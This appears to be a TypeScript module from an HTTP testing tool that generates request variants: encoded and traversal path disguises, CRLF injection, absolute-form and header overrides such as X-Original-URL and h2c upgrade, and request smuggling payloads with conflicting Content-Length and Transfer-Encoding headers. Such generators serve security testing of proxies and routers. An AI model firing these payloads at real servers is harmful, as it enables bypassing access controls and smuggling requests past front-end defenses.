import type { Form } from './wires.js';

/** Ways to write a path that some application takes for `/<segment>/<rest>`, beside that way itself. */
export function disguises(segment: string, rest: string): readonly string[] {
  const [first = '', ...others] = segment;
  const tail = others.join('');
  const encoded = `%${first.charCodeAt(0).toString(16)}${tail}`;
  const upper = segment.toUpperCase();
  return [
    ...[`//${segment}/${rest}`, `///${segment}/${rest}`, `/${segment}//${rest}`, `/./${segment}/${rest}`],
    ...[
      `/${segment}/./${rest}`,
      `/x/../${segment}/${rest}`,
      `/x/y/../../${segment}/${rest}`,
      `/../${segment}/${rest}`,
    ],
    ...[
      `/${segment}/x/../${rest}`,
      `/${segment}/..;/${segment}/${rest}`,
      `/;/${segment}/${rest}`,
      `/;x=y/${segment}/${rest}`,
    ],
    ...[
      `/${segment};/${rest}`,
      `/${segment};x=y/${rest}`,
      `/${segment};x/../${segment}/${rest}`,
      `/x/..;/${segment}/${rest}`,
    ],
    ...[
      `/${encoded}/${rest}`,
      `/${encoded.toUpperCase()}/${rest}`,
      `/%2e/${segment}/${rest}`,
      `/%2E%2E/${segment}/${rest}`,
    ],
    ...[
      `/x/%2e%2e/${segment}/${rest}`,
      `/x/.%2e/${segment}/${rest}`,
      `/x/..%2f${segment}/${rest}`,
      `/x/..%5c${segment}/${rest}`,
    ],
    ...[
      `/x%2f..%2f${segment}/${rest}`,
      `/%2f${segment}/${rest}`,
      `/${segment}%2f${rest}`,
      `/${segment}%2F${rest}`,
    ],
    ...[
      `/${segment}%5c${rest}`,
      `/${segment}%00/${rest}`,
      `/${segment}%20/../${segment}/${rest}`,
      `/${segment}%09/../${segment}/${rest}`,
    ],
    ...[
      `/%252e%252e/${segment}/${rest}`,
      `/x/%25%32%65%25%32%65/${segment}`,
      `/${segment}%252f${rest}`,
      `/%c0%ae%c0%ae/${segment}/${rest}`,
    ],
    ...[
      `/${segment}%c0%af${rest}`,
      `/x/%e0%80%ae%e0%80%ae/${segment}/${rest}`,
      `/${segment}%ef%bc%8f${rest}/../../${segment}/${rest}`,
    ],
    ...[
      `/${segment}\\${rest}`,
      `\\${segment}\\${rest}`,
      `/x\\..\\${segment}\\${rest}`,
      `/\\${segment}/${rest}`,
    ],
    ...[
      `/${segment}%3b/${rest}`,
      `/${segment}%3f/${rest}`,
      `/${segment}%23/${rest}`,
      `/${segment}/${rest}%0d%0ax: y`,
    ],
    ...[
      `/${segment}/%`,
      `/${segment}/%zz`,
      `/${segment}/%u002e`,
      `/${upper};/${rest}`,
      `/%u0061${tail}/${rest}`,
    ],
    ...[
      `/${segment}/./../${segment}/${rest}`,
      `/public/%2e%2e%2f${segment}/${rest}`,
      `/public%2f..%2f${segment}/${rest}`,
      `/%2f%2f${segment}/${rest}`,
      `/..%2f${segment}/${rest}`,
    ],
    ...[
      `/${segment}/${rest};id=1`,
      `/${segment}/${rest}/.`,
      `/${segment}/${rest}%2f`,
      `/${segment}/%2e/${rest}`,
    ],
    ...[`/${segment}/${rest}#/public`, `/public#/../${segment}/${rest}`, `/public/../${segment}/${rest}`],
  ];
}

/** The same place, that applications which route widely take for it although the path differs in one reading. */
export function lookalikes(segment: string, rest: string): readonly string[] {
  const [first = '', ...others] = segment;
  return [
    ...[
      `/${segment}`,
      `/${segment}/`,
      `/${segment}/${rest}`,
      `/${segment}/${rest}/`,
      `/${segment}/${rest}?x=/public`,
    ],
    ...[
      `/${segment.toUpperCase()}/${rest}`,
      `/${first.toUpperCase()}${others.join('')}/${rest}`,
      `/${segment}?`,
    ],
  ];
}

/** Targets that are no path: HTTP/1.1 allows them, and names one thing twice. */
export function otherTargets(segment: string, rest: string): readonly Form[] {
  const path = `/${segment}/${rest}`;
  return [
    { target: `http://server${path}` },
    { target: `http://public${path}` },
    { target: `http://server${path}`, raw: 'host: public\r\n\r\n' },
    { target: `HTTP://server${path}` },
    { target: `https://server${path}` },
    { target: `//server${path}` },
    { target: `${segment}/${rest}` },
    { target: `/public ${path}` },
    { target: `/public\t${path}` },
    { target: `/public\u000b${path}` },
    { target: `http://server@public${path}` },
    { target: `http://server:8080${path}` },
    { target: path, version: 'HTTP/1.0', raw: '\r\n' },
    { target: path, version: 'HTTP/0.9', raw: '\r\n' },
    { target: path, raw: 'host: public\r\nhost: server\r\n\r\n' },
    { target: path, raw: 'Host: server\r\nX-Rewrite-URL: /public\r\n\r\n' },
    { target: path, raw: 'host: server\r\nx-original-url: /public\r\n\r\n' },
    { target: path, raw: 'host: server\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n' },
    {
      target: path,
      raw: 'host: server\r\nconnection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABk\r\n\r\n',
    },
    { target: path, raw: 'host: server\r\nexpect: 100-continue\r\ncontent-length: 0\r\n\r\n' },
    { target: 'server:8080', method: 'CONNECT' },
    ...['get', 'Get', 'FOO', 'TRACE', 'PROPFIND', 'OPTIONS', 'HEAD', 'POST'].map((method) => ({
      method,
      target: path,
    })),
  ];
}

/** A request that may pass, with another one hidden behind it. */
export function hidden(mark: string): readonly Form[] {
  const behind = `GET ${mark} HTTP/1.1\r\nhost: server\r\n\r\n`;
  const length = String(behind.length);
  const chunked = `0\r\n\r\n${behind}`;
  return [
    { target: '/public', raw: `host: server\r\n\r\n${behind}` },
    { target: '/public', method: 'POST', raw: `host: server\r\ncontent-length: 0\r\n\r\n${behind}` },
    {
      target: '/public',
      method: 'POST',
      raw: `host: server\r\ncontent-length: ${length}\r\ntransfer-encoding: chunked\r\n\r\n${chunked}`,
    },
    {
      target: '/public',
      method: 'POST',
      raw: `host: server\r\ntransfer-encoding: chunked\r\ncontent-length: 5\r\n\r\n${chunked}`,
    },
    {
      target: '/public',
      method: 'POST',
      raw: `host: server\r\ncontent-length: 0\r\ncontent-length: ${length}\r\n\r\n${behind}`,
    },
    {
      target: '/public',
      method: 'POST',
      raw: `host: server\r\ntransfer-encoding: xchunked\r\ncontent-length: ${length}\r\n\r\n${chunked}`,
    },
    {
      target: '/public',
      method: 'POST',
      raw: `host: server\r\ntransfer-encoding : chunked\r\n\r\n${chunked}`,
    },
    {
      target: '/public',
      method: 'POST',
      raw: `host: server\r\ntransfer-encoding: chunked, identity\r\n\r\n${chunked}`,
    },
    { target: '/public', raw: `host: server\r\nx: y\r\n folded\r\n\r\n${behind}` },
    { target: '/public', raw: `host: server\nx: y\n\n${behind}` },
    { target: '/public', raw: `host: server\r\nx: y\r\rGET ${mark} HTTP/1.1\r\rhost: server\r\r\r\n\r\n` },
  ];
}
